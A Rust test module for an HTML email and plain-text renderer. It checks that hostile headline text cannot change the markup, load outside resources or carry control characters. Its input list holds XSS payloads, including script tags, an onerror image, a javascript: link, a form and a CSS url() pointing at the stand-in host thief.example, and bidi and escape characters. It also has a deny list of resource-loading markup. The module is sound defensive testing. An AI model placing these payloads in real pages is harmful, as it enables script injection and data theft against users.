use super::Sheet;
use crate::page::{Cell, Table, Tone};

/// What strangers have written into headlines.
const HOSTILE: [&str; 6] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</td></table><form action=//thief.example>",
    "'; background:url(//thief.example/x)",
    "<a href=\"javascript:alert(1)\">here</a> & more",
    "\u{202e}gnp.exe\u{200b}\x1b[31m",
];

fn sheet(text: &str) -> Sheet {
    let mut sheet = Sheet::new(text);
    sheet.note = Some((Tone::Warn, text.to_owned()));
    sheet.heading(text);
    sheet.words(Tone::Plain, text);
    sheet.pair(text, Cell::toned(Tone::Bad, text));
    let mut table = Table::new(&["what", ">how much"]);
    table.row([text.into(), text.into()]);
    sheet.table(table, "");
    sheet
}

/// The names of the tags of a document, in order.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|part| part.split([' ', '>']).next().unwrap_or_default()).collect()
}

#[test]
fn whatever_a_stranger_wrote_the_tags_are_ours() {
    let plain = sheet("plain").html();
    for text in HOSTILE {
        let html = sheet(text).html();
        assert_eq!(tags(&html), tags(&plain), "{text}");
        let quotes = |html: &str| html.matches(['"', '\'']).count();
        assert_eq!(quotes(&html), quotes(&plain), "no attribute ends early: {text}");
        assert!(!html.contains(['\u{202e}', '\u{200b}', '\x1b']), "{text}");
    }
}

#[test]
fn a_mail_loads_nothing_and_runs_nothing() {
    let html = sheet("plain").html();
    for word in ["<script", "<img", "<link", "url(", "http", "src=", "href=", "@import", "<iframe"]
    {
        assert!(!html.contains(word), "{word}");
    }
    assert!(html.contains("max-width:600px") && html.contains("prefers-color-scheme:dark"));
}

#[test]
fn text_and_mail_say_the_same_in_eighty_columns() {
    let sheet = sheet(
        "a text of some length that says what it says and then some more of it again and again",
    );
    let text = sheet.text();
    assert!(text.lines().all(|line| line.chars().count() <= 80), "{text}");
    let html = sheet.html();
    for part in ["what", "how much"] {
        assert!(text.contains(part) && html.contains(part));
    }
}
